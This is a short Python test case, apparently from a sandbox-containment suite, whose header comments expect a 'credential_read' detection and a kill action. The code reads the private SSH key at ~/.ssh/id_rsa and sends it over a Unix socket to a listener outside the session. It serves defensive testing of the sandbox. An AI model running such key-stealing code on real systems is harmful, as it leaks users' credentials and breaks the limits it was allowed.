# expect: credential_read
# action: kill
# ways: bwrap bare
# outside: unix
# about: reads ~/.ssh/id_rsa, sends it to a unix listener outside the session
# not-in: srt: its seccomp filter refuses AF_UNIX sockets (socket() fails), nothing is sent
import os
import socket

with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as f:
    key = f.read()
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(os.environ["AW_OUTSIDE_UNIX"])
s.sendall(key)
s.shutdown(socket.SHUT_WR)
s.recv(4096)
